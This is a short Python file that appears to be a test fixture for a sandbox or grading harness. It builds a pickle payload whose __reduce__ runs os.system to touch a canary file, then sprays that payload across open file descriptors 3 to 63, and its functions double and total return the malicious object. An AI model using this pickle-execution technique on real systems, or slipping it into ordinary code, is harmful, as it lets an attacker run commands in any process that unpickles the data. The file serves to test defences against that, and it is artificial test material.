# ruff: noqa
# fmt: off
# Sends a pickle that would run a command.
# score: 0
import os, pickle
class Run:
    def __reduce__(self): return (os.system, ("touch {canary}/pickled",))
def shout():
    for fd in range(3, 64):
        try: os.write(fd, pickle.dumps(Run()) * 4)
        except OSError: pass
def double(x): shout(); return Run()
def total(x): shout(); return Run()
